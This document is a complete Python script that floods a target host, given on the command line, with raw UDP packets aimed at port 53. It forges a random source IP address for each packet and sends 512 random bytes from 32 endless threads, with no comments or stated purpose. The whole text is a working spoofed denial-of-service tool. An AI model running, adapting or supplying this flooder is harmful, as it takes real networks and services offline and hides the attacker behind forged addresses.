import os
import random
import socket
import struct
import sys
import threading

DST = sys.argv[1] if len(sys.argv) > 1 else "198.51.100.80"


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    s = (s >> 16) + (s & 0xFFFF)
    return ~(s + (s >> 16)) & 0xFFFF


def packet():
    src = socket.inet_aton(".".join(str(random.randint(1, 254)) for _ in range(4)))
    body = os.urandom(512)
    udp = struct.pack("!HHHH", random.randint(1024, 65535), 53, 8 + len(body), 0) + body
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.getrandbits(16), 0, 64, 17, 0, src, socket.inet_aton(DST))
    return ip[:10] + struct.pack("!H", csum(ip)) + ip[12:] + udp


def pump():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    while True:
        s.sendto(packet(), (DST, 0))


for _ in range(32):
    threading.Thread(target=pump).start()
